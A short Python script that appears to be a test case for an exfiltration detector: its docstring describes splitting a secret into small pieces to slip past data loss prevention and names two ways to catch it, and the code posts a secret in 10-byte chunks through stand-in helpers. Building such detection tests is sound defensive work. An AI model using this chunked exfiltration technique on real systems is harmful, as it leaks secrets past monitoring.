#!/usr/bin/python3
"""
Trick: Sends a secret in four pieces over four connections, none long enough to be recognised.
Known from: chunked exfiltration; data loss prevention looks at one message at a time.
First: the sinkhole's record of the streams, joined by destination
Second: read-then-sent, where the value came from a file
"""

from way_out import post, secret

value = secret()
for start in range(0, len(value), 10):
    post(b"part=" + value[start : start + 10])
print("performed")
